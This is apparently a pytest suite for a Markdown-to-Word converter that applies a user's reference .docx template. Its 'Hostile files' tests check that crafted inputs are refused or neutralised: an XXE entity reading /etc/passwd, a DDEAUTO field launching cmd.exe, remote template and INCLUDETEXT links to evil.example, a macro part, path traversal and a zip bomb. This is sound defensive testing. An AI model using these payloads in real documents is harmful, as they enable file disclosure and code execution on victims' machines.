"""`DocxOptions(reference_doc=…)`: the styles, page and headers of a Word file of the user's."""

import re
import struct
from functools import cache
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Inches, Pt
from hypothesis import given, settings
from hypothesis import strategies as st

from mdpublish_core import DocxOptions, convert
from mdpublish_core.errors import InvalidReferenceDoc
from mdpublish_core.writers.docx import reference
from tests.core.docx.reference_documents import (
    CORPORATE,
    annual_report,
    changed,
    field,
    german_letterhead,
    memo_template,
    saved,
    thesis,
    with_header,
)
from tests.core.docx.word_files import NAMES, WordParts, invalid, opened, pandoc_reads, visible

SPECIMEN = (Path(__file__).parents[2] / "browser/specimen.md").read_text("utf-8")

_STYLES_USED = "//w:pStyle | //w:rStyle | //w:tblStyle"


def written(content: bytes, markdown: str = "# One\n\nText.\n\n1. a\n2. b", **options: object) -> bytes:
    return convert(markdown, to="docx", options=DocxOptions(reference_doc=content, **options)).to_bytes()  # type: ignore[arg-type]


@cache
def _specimen(name: str) -> bytes:
    return written(CORPORATE[name](), SPECIMEN, toc=True)


def _words(content: bytes, folder: Path) -> list[str]:
    # Rules are as long as tables are wide.
    return [word for word in pandoc_reads(content, folder).split() if word.strip("-+")]


def test_file_with_a_company_s_template_is_valid_and_complete(tmp_path: Path) -> None:
    plain = _words(convert(SPECIMEN, to="docx", options=DocxOptions(toc=True)).to_bytes(), tmp_path)

    for name in CORPORATE:
        assert invalid(_specimen(name), tmp_path) == [], name
        assert _words(_specimen(name), tmp_path) == plain, name


@pytest.mark.parametrize("name", CORPORATE)
def test_paragraphs_that_name_no_style_have_one(name: str) -> None:
    document = docx.Document(BytesIO(written(CORPORATE[name](), "Text.")))

    assert [paragraph.style and paragraph.style.name for paragraph in document.paragraphs] == ["Normal"]


def test_styles_for_code_quotes_and_footnotes_are_the_template_s() -> None:
    document = docx.Document(BytesIO(written(thesis(), "> a[^1]\n\n```\nb\n```\n\n[^1]: c")))

    sizes = {style.name: style.font.size for style in document.styles if style.type == WD_STYLE_TYPE.PARAGRAPH}
    assert [sizes[name] for name in ("Quote", "Source Code", "footnote text")] == [Pt(10), Pt(8), Pt(7)]
    names = {paragraph.style and paragraph.style.name for paragraph in document.paragraphs}
    assert names == {"Quote", "Normal", "Source Code"}


@pytest.mark.parametrize("name", CORPORATE)
def test_no_style_dangles(name: str) -> None:
    word = WordParts(_specimen(name))
    ids = set(word.values("//w:style", "styles", "styleId"))

    used = {value for part in ("document", "footnotes") for value in word.values(_STYLES_USED, part)}
    assert used - ids == set()
    assert set(word.values("//w:basedOn | //w:next | //w:link", "styles")) - ids == set()
    assert len(word.find("//w:style", "styles")) == len(ids)


def test_styles_are_matched_by_name() -> None:
    output = written(german_letterhead())

    heading = opened(output).paragraphs[0]
    assert heading.style
    assert (heading.style.style_id, heading.style.font.name) == ("berschrift1", "Georgia")
    assert opened(output).paragraphs[1].style.font.name == "Cambria"  # type: ignore[union-attr]
    assert "Heading1" not in WordParts(output).values("//w:pStyle")


def test_text_has_no_looks_of_ours() -> None:
    word = WordParts(written(german_letterhead(), "# One *b*\n\nText `c` **d**.\n\n- e\n\n  f\n\n> g", toc=True))

    assert (
        word.find(
            "//w:body//w:rPr/*[not(self::w:b or self::w:bCs or self::w:i or self::w:iCs or self::w:rStyle or self::w:noProof)]"
        )
        == []
    )
    assert word.find("//w:body//w:pPr/w:spacing") == []


def test_styles_that_it_lacks_are_ours() -> None:
    word = WordParts(written(memo_template(), "Text [link](https://e.org/) `code`\n\n```python\nx = 1\n```"))

    names = word.values("//w:style/w:name", "styles")
    assert {"Hyperlink", "Verbatim Char", "Source Code", "Code Number", "heading 2"} <= set(names)
    assert word.values("//w:style[@w:styleId='SourceCode']/w:basedOn", "styles") == ["Normal"]


def test_page_headers_and_footers_are_its_own() -> None:
    report = opened(written(annual_report()))
    section = report.sections[0]

    assert report.settings.odd_and_even_pages_header_footer
    assert section.different_first_page_header_footer
    assert [
        each.paragraphs[0].text for each in (section.header, section.even_page_header, section.first_page_header)
    ] == ["Annual report", "ACME Inc.", "Confidential"]
    assert section.page_width
    assert section.page_width.cm == pytest.approx(27.94, abs=0.01)
    assert "What the template says" not in visible(written(annual_report()))


def test_last_section_inherits_headers_of_the_nearest_before_it() -> None:
    template = docx.Document()
    template.sections[0].header.paragraphs[0].text = "Cover"
    template.sections[0].footer.paragraphs[0].text = "Confidential"
    template.add_section().header.is_linked_to_previous = False
    template.sections[1].header.paragraphs[0].text = "ACME Inc."
    template.add_section()

    section = opened(written(saved(template))).sections[0]

    assert (section.header.paragraphs[0].text, section.footer.paragraphs[0].text) == ("ACME Inc.", "Confidential")


def test_paper_that_it_lacks_is_ours() -> None:
    template = docx.Document()
    for each in list(template.sections[0]._sectPr):
        template.sections[0]._sectPr.remove(each)

    section = opened(written(saved(template), paper="letter")).sections[0]

    assert section.page_width
    assert (section.page_width.inches, section.left_margin) == (8.5, Inches(1))


def test_title_of_the_contents_is_not_numbered_as_headings_are() -> None:
    word = WordParts(written(annual_report(), toc=True))

    assert word.values("//w:p[w:pPr/w:pStyle/@w:val='TOCHeading']//w:numId") == ["0"]


def test_code_and_tables_are_not_justified_as_its_text_is() -> None:
    word = WordParts(written(memo_template(), "Text.\n\n```\na b\n```\n\n| c |\n|---|\n| d |"))

    styles = ("SourceCode", "TableText", "TableHeader")
    assert [word.values(f"//w:style[@w:styleId='{each}']//w:jc", "styles") for each in styles] == [["left"]] * 3


def test_images_fit_its_columns() -> None:
    image = "![wide](data:image/svg+xml,x)\n\n```mermaid\ngraph LR\nA-->B-->C-->D-->E-->F-->G-->H\n```"
    widths = [int(each.get("cx", "0")) for each in WordParts(written(annual_report(), image)).find("//wp:extent")]

    # The page less two inches and the space between, of which a column is half: in English Metric Units.
    assert widths
    assert max(widths) <= (10_058_400 - 2 * 1_143_000 - 457_200) / 2


def test_columns_have_room_for_a_wider_font() -> None:
    table = "|first column|second|\n|-|-|\n|a|b|"

    def widths(content: bytes) -> list[int]:
        columns = WordParts(content).find("//w:gridCol")
        return [int(each.get(f"{{{NAMES['w']}}}w", "0")) for each in columns]

    ours, its = widths(convert(table, to="docx").to_bytes()), widths(written(memo_template(), table))
    assert [round(after / before, 2) for before, after in zip(ours, its, strict=True)] == pytest.approx(
        [1.18, 1.18], abs=0.02
    )


def test_header_keeps_its_logo() -> None:
    word = WordParts(written(german_letterhead()))

    assert len(word.find("//a:blip", "header1")) == 1
    assert [name for name in word.files if name.startswith("word/media/")] != []
    assert word.find("//w:fldSimple", "footer1")[0].get(f"{{{NAMES['w']}}}instr") == " PAGE "


def test_lists_are_added_to_its_own() -> None:
    word = WordParts(written(annual_report()))

    assert word.values("//w:style[@w:styleId='Heading1']//w:numId", "styles") == ["88"]
    assert set(word.values("//w:body//w:numPr/w:numId")) == {"89"}
    numbers = word.values("//w:abstractNum", "numbering", "abstractNumId")
    assert len(numbers) == len(set(numbers))
    assert "78" in numbers


def test_without_headers_the_page_has_its_number() -> None:
    assert " PAGE " in "".join(map(str, WordParts(written(memo_template())).part("footer1").itertext()))


def test_its_language_is_kept_unless_the_author_names_one() -> None:
    path = "//w:docDefaults//w:lang/@w:val"

    def languages(**options: str) -> object:
        return WordParts(written(german_letterhead(), **options)).part("styles").xpath(path, namespaces=NAMES)

    assert (languages(), languages(lang="fr-FR")) == (["en-US"], ["fr-FR"])


def test_equal_files_make_equal_bytes() -> None:
    assert written(german_letterhead()) == written(german_letterhead())


# Hostile files


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", "must be a Word document"),
        (b"PK\x03\x04" + bytes(100), "must be a Word document"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "without a password"),
        (b"PK\x01\x02" * 2_001, "at most 2,000 entries in its zip .got 2,001"),
        (bytes(10_000_001), "at most 10,000,000 bytes .got 10,000,001"),
    ],
)
def test_what_is_no_word_file_is_refused(content: bytes, problem: str) -> None:
    with pytest.raises(InvalidReferenceDoc, match=problem):
        written(content)


@pytest.mark.parametrize(
    ("name", "part", "problem"),
    [
        ("word/document.xml", b"<w:document", "has in 'word/document.xml' broken XML"),
        ("word/document.xml", b"<html/>", "not strict Open XML"),
        ("word/styles.xml", b" " * 4_000_001, "at most 4,000,000 bytes in 'word/styles.xml' without compression"),
        (
            "word/styles.xml",
            b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
            "has in 'word/styles.xml' a document type declaration",
        ),
        ("word/styles.xml", b"<a>" + b"<b/>" * 500_000 + b"</a>", "at most 500,000 tags in the parts that are read"),
        ("word/styles.xml", b"<a>" * 1_000 + b"</a>" * 1_000, "broken XML"),
    ],
)
def test_spoiled_part_is_refused(name: str, part: bytes, problem: str) -> None:
    with pytest.raises(InvalidReferenceDoc, match=problem):
        written(changed(memo_template(), {name: lambda _: part}))


def test_parts_are_bounded_together(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reference, "LIMITS", reference.LIMITS._replace(total_bytes=20_000))

    with pytest.raises(InvalidReferenceDoc, match=r"at most 20,000 bytes in the parts that are read"):
        written(memo_template())


def test_other_compression_is_refused() -> None:
    output = BytesIO()
    with ZipFile(output, "w", ZIP_LZMA) as archive:
        archive.writestr("_rels/.rels", "<x/>")

    with pytest.raises(InvalidReferenceDoc, match="not compressed as usual"):
        written(output.getvalue())


def test_size_that_lies_does_not_matter() -> None:
    content = changed(memo_template(), {"word/styles.xml": lambda _: b" " * 5_000_000})
    size = struct.pack("<I", 5_000_000)

    with pytest.raises(InvalidReferenceDoc):
        written(content.replace(size, struct.pack("<I", 10)))


def test_nothing_else_of_the_file_is_kept(tmp_path: Path) -> None:
    content = changed(
        german_letterhead(),
        {
            "word/vbaProject.bin": lambda _: b"MACRO",
            "customXml/item1.xml": lambda _: b"<secret/>",
            "word/_rels/document.xml.rels": lambda rels: rels.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                b'Target="vbaProject.bin"/><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
                b"</Relationships>",
            ),
        },
    )
    word = WordParts(written(content))

    assert not any("vba" in name or "customXml" in name for name in word.files)
    assert b"evil.example" not in b"".join(word.files.values())
    assert invalid(written(content), tmp_path) == []


@pytest.mark.parametrize(
    "instruction",
    [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        'INCLUDETEXT "https://evil.example/a"',
        "</w:instrText></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:instrText>AUTHOR",
        f"D</w:instrText></w:r>{field(' AUTHOR ', 'DE')}<w:r><w:instrText>ATE",
        "",
    ],
)
def test_field_that_loads_or_starts_something_is_its_text(instruction: str) -> None:
    word = WordParts(written(with_header(field(instruction, "shown") + field(" PAGE ", "1"))))

    instructions = [each.text for each in word.find("//w:instrText", "header1")]
    assert [each for each in instructions if each and each.strip() not in {"PAGE", "AUTHOR"}] == []
    assert "shown" in "".join(map(str, word.part("header1").itertext()))
    assert len(word.find("//w:fldChar", "header1")) in {3, 6}


def test_simple_field_that_loads_something_is_its_text() -> None:
    markup = '<w:fldSimple w:instr=" INCLUDEPICTURE x "><w:r><w:t>shown</w:t></w:r></w:fldSimple>'
    word = WordParts(written(with_header(markup)))

    assert word.find("//w:fldSimple", "header1") == []
    assert word.find("//w:p/w:r/w:t", "header1")[0].text == "shown"


_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def test_header_loads_nothing(tmp_path: Path) -> None:
    kinds = {"a": "image", "b": "hyperlink", "c": "oleObject", "d": "chart"}
    relationships = "".join(
        f'<Relationship Id="{key}" Type="{_R}/{kind}" Target="https://evil.example/{key}" TargetMode="External"/>'
        for key, kind in kinds.items()
    )
    markup = (
        '<w:hyperlink r:id="b"><w:r><w:t>link</w:t></w:r></w:hyperlink>'
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="https://evil.example/">'
        '<v:imagedata src="https://evil.example/" r:id="a"/></v:shape></w:pict></w:r>'
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="c"/></w:object></w:r>'
        '<w:r><w:drawing><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="d"/></w:drawing></w:r>'
    )
    output = written(with_header(markup, relationships))
    word = WordParts(output)

    assert b"evil.example" not in b"".join(word.files.values())
    assert word.find("//w:pict | //w:object | //w:drawing | //@r:id/..", "header1") == []
    assert word.find("//w:hyperlink/w:r/w:t", "header1")[0].text == "link"
    assert invalid(output, tmp_path) == []


def test_section_has_no_strange_parts() -> None:
    strange = b'<w:sectPr xmlns:x="urn:x" x:y="1"><x:pgSz/><w:printerSettings r:id="rId1"/><w:pgSz x:y="1" w:w="10000" w:h="12000"/>'
    content = changed(
        german_letterhead(), {"word/document.xml": lambda part: re.sub(rb"<w:sectPr[^>]*>", lambda _: strange, part)}
    )

    assert WordParts(written(content)).find("//w:printerSettings | //@*[namespace-uri()='urn:x']/..") == []


def test_path_outside_of_the_zip_is_not_read() -> None:
    content = changed(
        german_letterhead(),
        {"word/_rels/document.xml.rels": lambda rels: rels.replace(b'"styles.xml"', b'"../../../../etc/passwd"')},
    )

    assert "Heading1" in WordParts(written(content)).values("//w:pStyle")


@given(st.data())
@settings(max_examples=25)
def test_spoiled_bytes_are_refused_or_make_a_file(data: st.DataObject) -> None:
    content = bytearray(german_letterhead())
    for place in data.draw(st.lists(st.integers(0, len(content) - 1), min_size=1, max_size=30)):
        content[place] ^= data.draw(st.integers(1, 255))

    try:
        output = written(bytes(content))
    except InvalidReferenceDoc:
        return
    assert WordParts(output).find("//w:body/w:p") != []


def test_zip_bomb_is_refused() -> None:
    output = BytesIO()
    with ZipFile(output, "w", ZIP_DEFLATED) as archive:
        archive.writestr("_rels/.rels", b" " * 100_000_000)

    with pytest.raises(InvalidReferenceDoc, match="4,000,000 bytes"):
        written(output.getvalue())
